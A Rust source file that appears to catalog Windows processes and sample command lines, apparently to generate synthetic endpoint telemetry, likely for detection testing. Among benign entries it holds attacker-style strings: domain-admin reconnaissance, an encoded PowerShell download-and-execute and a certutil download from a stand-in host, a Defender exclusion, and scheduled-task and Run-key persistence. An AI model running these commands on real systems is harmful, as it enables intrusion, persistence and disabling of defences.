//! Windows.

use super::Account::{LocalService, NetworkService, System, User};
use super::{Catalog, Listed, Maker};

const SYSTEM32: &str = r"C:\Windows\System32";
const WBEM: &str = r"C:\Windows\System32\wbem";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0";
const OFFICE16: &str = r"C:\Program Files\Microsoft Office\root\Office16";
const PLATFORM: &str = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25010.11-0";
const SENSE: &str = r"C:\Program Files\Windows Defender Advanced Threat Protection";
const EDGE_FOLDER: &str = r"C:\Program Files (x86)\Microsoft\Edge\Application";
const WEBVIEW: &str = r"C:\Program Files (x86)\Microsoft\EdgeWebView\Application\133.0.3065.82";
const TEAMS_FOLDER: &str = r"C:\Program Files\WindowsApps\MSTeams_25017.203.3370.1174_x64__8wekyb3d8bbwe";

const WINDOWS: Maker = Maker {
    company: "Microsoft Corporation",
    product: "Microsoft® Windows® Operating System",
    version: "10.0.{build}.{release}",
    signer: Some(["Microsoft Windows", "Microsoft Windows Production PCA 2011"]),
};
const OFFICE: Maker = Maker {
    company: "Microsoft Corporation",
    product: "Microsoft Office",
    version: "16.0.18429.{release}",
    signer: Some(["Microsoft Corporation", "Microsoft Code Signing PCA 2011"]),
};
const EDGE: Maker = Maker {
    company: "Microsoft Corporation",
    product: "Microsoft Edge",
    version: "133.0.3065.{release}",
    signer: Some(["Microsoft Corporation", "Microsoft Code Signing PCA 2011"]),
};
const TEAMS: Maker = Maker { product: "Microsoft Teams", version: "25017.203.3370.{release}", ..EDGE };
const GOOGLE: Maker = Maker {
    company: "Google LLC",
    product: "Google Chrome",
    version: "133.0.6943.{release}",
    signer: Some(["Google LLC", "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1"]),
};
const GIT: Maker = Maker {
    company: "The Git Development Community",
    product: "Git",
    version: "2.48.1.{release}",
    signer: Some(["Johannes Schindelin", "Microsoft ID Verified CS EOC CA 01"]),
};
const PYTHON: Maker = Maker {
    company: "Python Software Foundation",
    product: "Python",
    version: "3.13.{release}",
    signer: Some(["Python Software Foundation", "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1"]),
};
const UNKNOWN: Maker = Maker { company: "", product: "", version: "", signer: None };

pub(super) const CATALOG: Catalog = Catalog { residents: RESIDENTS, started: STARTED, libraries: LIBRARIES };

const RESIDENTS: &[Listed] = &[
    Listed::new(["ntoskrnl.exe", ""], UNKNOWN, "", System, "", &[""]),
    Listed::new(
        ["wininit.exe", SYSTEM32],
        WINDOWS,
        "Windows Start-Up Application",
        System,
        "ntoskrnl.exe",
        &["wininit.exe"],
    ),
    Listed::new(
        ["services.exe", SYSTEM32],
        WINDOWS,
        "Services and Controller app",
        System,
        "wininit.exe",
        &["services.exe"],
    ),
    Listed::new(
        ["lsass.exe", SYSTEM32],
        WINDOWS,
        "Local Security Authority Process",
        System,
        "wininit.exe",
        &["lsass.exe"],
    ),
    Listed::new(
        ["svchost.exe", SYSTEM32],
        WINDOWS,
        "Host Process for Windows Services",
        System,
        "services.exe",
        &["svchost.exe -k netsvcs -p -s Schedule"],
    ),
    Listed::new(
        ["svchost.exe", SYSTEM32],
        WINDOWS,
        "Host Process for Windows Services",
        NetworkService,
        "services.exe",
        &["svchost.exe -k NetworkService -p -s Dnscache"],
    ),
    Listed::new(
        ["svchost.exe", SYSTEM32],
        WINDOWS,
        "Host Process for Windows Services",
        LocalService,
        "services.exe",
        &["svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog"],
    ),
    Listed::new(
        ["MsMpEng.exe", PLATFORM],
        Maker { version: "4.18.25010.{release}", ..WINDOWS },
        "Antimalware Service Executable",
        System,
        "services.exe",
        &["\"MsMpEng.exe\""],
    ),
    Listed::new(
        ["MsSense.exe", SENSE],
        Maker { version: "10.8797.{build}.{release}", ..WINDOWS },
        "Windows Defender Advanced Threat Protection Service Executable",
        System,
        "services.exe",
        &["\"MsSense.exe\""],
    ),
    Listed::new(
        ["WmiPrvSE.exe", WBEM],
        WINDOWS,
        "WMI Provider Host",
        NetworkService,
        "svchost.exe",
        &["wmiprvse.exe -secured -Embedding"],
    ),
    Listed::new(["explorer.exe", r"C:\Windows"], WINDOWS, "Windows Explorer", User, "wininit.exe", &["Explorer.EXE"]),
    Listed::new(
        ["OUTLOOK.EXE", OFFICE16],
        OFFICE,
        "Microsoft Outlook",
        User,
        "explorer.exe",
        &[r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" "#],
    ),
    Listed::new(
        ["ms-teams.exe", TEAMS_FOLDER],
        TEAMS,
        "Microsoft Teams",
        User,
        "explorer.exe",
        &[r#""ms-teams.exe" msteams:system-initiated"#],
    ),
    Listed::new(
        ["msedge.exe", EDGE_FOLDER],
        EDGE,
        "Microsoft Edge",
        User,
        "explorer.exe",
        &[r#""msedge.exe" --no-startup-window --win-session-start"#],
    ),
    Listed::new(
        ["chrome.exe", r"C:\Program Files\Google\Chrome\Application"],
        GOOGLE,
        "Google Chrome",
        User,
        "explorer.exe",
        &[r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --profile-directory="Profile 1""#],
    ),
];

const RENDERER: &str = r#""msedge.exe" --type=renderer --string-annotations --extension-process --renderer-sub-type=extension --video-capture-use-gpu-memory-buffer --lang=en-US --js-flags="--ms-user-locale= --jitless" --device-scale-factor=1.25 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={number} --time-ticks-at-unix-epoch=-{number} --launch-time-ticks={number} --always-read-main-dll --metrics-shmem-handle=4188,i,{number},{number},2097152 --field-trial-handle=2004,i,{number},{number},262144 --variations-seed-version --mojo-platform-channel-handle=4184 /prefetch:2"#;
const NETWORK_SERVICE: &str = r#""msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --string-annotations --lang=en-US --service-sandbox-type=none --metrics-shmem-handle=2312,i,{number},{number},524288 --field-trial-handle=2004,i,{number},{number},262144 --variations-seed-version --mojo-platform-channel-handle=2304 /prefetch:3"#;
const WEBVIEW_UTILITY: &str = r#""msedgewebview2.exe" --type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US --service-sandbox-type=service --noerrdialogs --user-data-dir="C:\Users\{user}\AppData\Local\Packages\MSTeams_8wekyb3d8bbwe\LocalCache\Microsoft\MSTeams\EBWebView" --webview-exe-name=ms-teams.exe --webview-exe-version=25017.203.3370.1174 --embedded-browser-webview=1 --field-trial-handle=1896,i,{number},{number},262144 --enable-features=MojoIpcz --variations-seed-version --mojo-platform-channel-handle=2716 /prefetch:8"#;

const STARTED: &[Listed] = &[
    Listed::new(["msedge.exe", EDGE_FOLDER], EDGE, "Microsoft Edge", User, "msedge.exe", &[RENDERER, NETWORK_SERVICE]),
    Listed::new(
        ["msedgewebview2.exe", WEBVIEW],
        Maker { product: "Microsoft Edge WebView2", ..EDGE },
        "Microsoft Edge WebView2",
        User,
        "ms-teams.exe",
        &[WEBVIEW_UTILITY],
    ),
    Listed::new(
        ["chrome.exe", r"C:\Program Files\Google\Chrome\Application"],
        GOOGLE,
        "Google Chrome",
        User,
        "chrome.exe",
        &[
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --video-capture-use-gpu-memory-buffer --lang=de --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={number} --time-ticks-at-unix-epoch=-{number} --launch-time-ticks={number} --field-trial-handle=1996,i,{number},{number},262144 --variations-seed-version={number} --mojo-platform-channel-handle=5120 /prefetch:1"#,
        ],
    ),
    Listed::new(
        ["cmd.exe", SYSTEM32],
        WINDOWS,
        "Windows Command Processor",
        User,
        "explorer.exe",
        &[
            r#""cmd.exe" /c whoami /all & net group "Domain Admins" /domain"#,
            r#"cmd.exe /d /s /c ""C:\Program Files\nodejs\npm.cmd" run build -- --mode "production" > "C:\Users\{user}\AppData\Local\Temp\{hex}.log" 2>&1""#,
            r#"C:\Windows\system32\cmd.exe /c ""C:\ProgramData\Contoso\logon scripts\map drives.cmd" \\fs01.corp.contoso.com\home$\{user}""#,
        ],
    ),
    Listed::new(
        ["powershell.exe", POWERSHELL],
        WINDOWS,
        "Windows PowerShell",
        System,
        "svchost.exe",
        &[
            r#"powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command "& {$OutputEncoding = [Console]::OutputEncoding =[System.Text.Encoding]::UTF8;$scriptFileStream = [System.IO.File]::Open('C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\DataCollection\{number}\OpenHandleCollector.ps1', [System.IO.FileMode]::Open, [System.IO.FileAccess]::Read, [System.IO.FileShare]::Read);$calculatedHash = Get-FileHash 'C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\DataCollection\{number}\OpenHandleCollector.ps1' -Algorithm SHA256;if (!($calculatedHash.Hash -eq '{hex}{hex}{hex}{hex}{hex}{hex}{hex}{hex}')) { exit 323;}; . 'C:\ProgramData\OpenHandleCollector.ps1' }""#,
            "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHUAcABkAGEAdABlAHMALgBlAHgAYQBtAHAAbABlAC4AbwByAGcALwB7AGgAZQB4AH0AJwApAA==",
        ],
    ),
    Listed::new(
        ["powershell.exe", POWERSHELL],
        WINDOWS,
        "Windows PowerShell",
        User,
        "explorer.exe",
        &[
            r#""powershell.exe" -NoLogo -NoExit -Command "Set-Location -LiteralPath 'C:\Users\{user}\Documents\Übersicht'; Get-ChildItem | Where-Object { $_.Length -gt 1MB -and $_.Name -ne 'a&b' }""#,
            r#"powershell.exe -Command "Add-MpPreference -ExclusionPath 'C:\Users\{user}\AppData\Local\Temp'""#,
        ],
    ),
    Listed::new(
        ["conhost.exe", SYSTEM32],
        WINDOWS,
        "Console Window Host",
        User,
        "explorer.exe",
        &[r"conhost.exe 0xffffffff -ForceV1", r"\??\C:\Windows\system32\conhost.exe 0x4"],
    ),
    Listed::new(
        ["svchost.exe", SYSTEM32],
        WINDOWS,
        "Host Process for Windows Services",
        System,
        "services.exe",
        &[
            "svchost.exe -k wsappx -p -s AppXSvc",
            "svchost.exe -k netsvcs -p -s wlidsvc",
            "svchost.exe -k UnistackSvcGroup -s CDPUserSvc",
        ],
    ),
    Listed::new(
        ["taskhostw.exe", SYSTEM32],
        WINDOWS,
        "Host Process for Windows Tasks",
        User,
        "svchost.exe",
        &["taskhostw.exe {guid}", "taskhostw.exe"],
    ),
    Listed::new(
        ["backgroundTaskHost.exe", SYSTEM32],
        WINDOWS,
        "Background Task Host",
        User,
        "svchost.exe",
        &[r#""backgroundTaskHost.exe" -ServerName:App.AppX{hex}{hex}{hex}.mca"#],
    ),
    Listed::new(
        ["dllhost.exe", SYSTEM32],
        WINDOWS,
        "COM Surrogate",
        User,
        "svchost.exe",
        &["DllHost.exe /Processid:{{guid}}"],
    ),
    Listed::new(
        ["SearchProtocolHost.exe", SYSTEM32],
        WINDOWS,
        "Microsoft Windows Search Protocol Host",
        System,
        "svchost.exe",
        &[
            r#""SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{number}_ Global\UsGthrCtrlFltPipeMssGthrPipe{number} 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon" "#,
        ],
    ),
    Listed::new(
        ["rundll32.exe", SYSTEM32],
        WINDOWS,
        "Windows host process (Rundll32)",
        User,
        "explorer.exe",
        &[
            r#"rundll32.exe C:\Users\{user}\AppData\Local\Temp\{hex}.dll,DllRegisterServer"#,
            r#""C:\Windows\system32\rundll32.exe" C:\Windows\system32\davclnt.dll,DavSetCookie fs01.corp.contoso.com@SSL https://fs01.corp.contoso.com/sites/finance/Shared%20Documents"#,
        ],
    ),
    Listed::new(
        ["schtasks.exe", SYSTEM32],
        WINDOWS,
        "Task Scheduler Configuration Tool",
        User,
        "explorer.exe",
        &[
            r#"schtasks.exe /create /tn "OfficeUpdate" /tr "C:\Users\{user}\AppData\Roaming\updater.exe" /sc minute /mo 15 /f"#,
        ],
    ),
    Listed::new(
        ["reg.exe", SYSTEM32],
        WINDOWS,
        "Registry Console Tool",
        User,
        "explorer.exe",
        &[
            r#"reg  query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v ReleaseId"#,
            r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OfficeUpdate /t REG_SZ /d "\"C:\Users\{user}\AppData\Roaming\updater.exe\" -s" /f"#,
        ],
    ),
    Listed::new(
        ["net.exe", SYSTEM32],
        WINDOWS,
        "Net Command",
        User,
        "explorer.exe",
        &[r"net  use Z: \\fs01.corp.contoso.com\projects /persistent:yes", r#"net localgroup "Remote Desktop Users""#],
    ),
    Listed::new(
        ["certutil.exe", SYSTEM32],
        WINDOWS,
        "CertUtil.exe",
        User,
        "explorer.exe",
        &[r"certutil.exe -urlcache -split -f https://cdn-updates.example.org/{hex} C:\ProgramData\a.bin"],
    ),
    Listed::new(
        ["WINWORD.EXE", OFFICE16],
        OFFICE,
        "Microsoft Word",
        User,
        "OUTLOOK.EXE",
        &[
            r#""WINWORD.EXE" /n "C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{hex}\Résumé – Zoë (003).docx" /o """#,
        ],
    ),
    Listed::new(
        ["EXCEL.EXE", OFFICE16],
        OFFICE,
        "Microsoft Excel",
        User,
        "explorer.exe",
        &[r#""EXCEL.EXE" "C:\Users\{user}\OneDrive - Contoso\Finance\Customer cards 2024.xlsx""#],
    ),
    Listed::new(
        ["MpCmdRun.exe", PLATFORM],
        Maker { version: "4.18.25010.{release}", ..WINDOWS },
        "Microsoft Malware Protection Command Line Utility",
        NetworkService,
        "MsMpEng.exe",
        &[r#""MpCmdRun.exe" SpyNetServiceDss -RestrictPrivileges -AccessKey {guid} -Reinvoke"#],
    ),
    Listed::new(
        ["MicrosoftEdgeUpdate.exe", r"C:\Program Files (x86)\Microsoft\EdgeUpdate"],
        Maker { product: "Microsoft Edge Update", version: "1.3.195.{release}", ..EDGE },
        "Microsoft Edge Update",
        System,
        "svchost.exe",
        &[r#""C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler"#],
    ),
    Listed::new(
        ["git.exe", r"C:\Program Files\Git\mingw64\bin"],
        GIT,
        "Git for Windows",
        User,
        "explorer.exe",
        &[
            "git.exe -c core.quotepath=false -c color.ui=false log --max-count=1 --format=%H --no-show-signature HEAD --",
            "git.exe fetch --no-tags origin \"+refs/heads/*:refs/remotes/origin/*\"",
        ],
    ),
    Listed::new(
        ["python.exe", r"C:\Program Files\Python313"],
        PYTHON,
        "Python",
        User,
        "explorer.exe",
        &[
            r#""C:\Program Files\Python313\python.exe" -c "from multiprocessing.spawn import spawn_main; spawn_main(parent_pid={number}, pipe_handle=680)" "--multiprocessing-fork""#,
        ],
    ),
    Listed::new(
        ["updater.exe", r"C:\ProgramData\Updater"],
        UNKNOWN,
        "",
        User,
        "explorer.exe",
        &[r#""C:\ProgramData\Updater\updater.exe" --install --id={hex}"#],
    ),
];

const LIBRARIES: &[([&str; 2], Maker)] = &[
    (["ntdll.dll", SYSTEM32], WINDOWS),
    (["kernel32.dll", SYSTEM32], WINDOWS),
    (["amsi.dll", SYSTEM32], WINDOWS),
    (["dbghelp.dll", SYSTEM32], WINDOWS),
    (["dbgcore.dll", SYSTEM32], WINDOWS),
    (["samlib.dll", SYSTEM32], WINDOWS),
    (["taskschd.dll", SYSTEM32], WINDOWS),
    (["wldp.dll", SYSTEM32], WINDOWS),
    (["vaultcli.dll", SYSTEM32], WINDOWS),
    (["winhttp.dll", SYSTEM32], WINDOWS),
    (["wmiutils.dll", WBEM], WINDOWS),
    (["fastprox.dll", WBEM], WINDOWS),
    (["clr.dll", r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319"], WINDOWS),
    (
        [
            "System.Management.Automation.ni.dll",
            r"C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\8b2c1203fd20aea8260bfbc518004720",
        ],
        WINDOWS,
    ),
    (
        [
            "System.Xml.ni.dll",
            r"C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Xml\0f2a8b1d4c6e7a9358d1b0c2e4f6a871",
        ],
        WINDOWS,
    ),
    (
        ["VBE7.DLL", r"C:\Program Files\Microsoft Office\root\vfs\ProgramFilesCommonX64\Microsoft Shared\VBA\VBA7.1"],
        OFFICE,
    ),
    (
        [
            "mso20win32client.dll",
            r"C:\Program Files\Microsoft Office\root\vfs\ProgramFilesCommonX64\Microsoft Shared\Office16",
        ],
        OFFICE,
    ),
    (["chrome_elf.dll", r"C:\Program Files\Google\Chrome\Application\133.0.6943.142"], GOOGLE),
    (["python313.dll", r"C:\Program Files\Python313"], PYTHON),
    (["version.dll", r"C:\ProgramData\Updater"], UNKNOWN),
];
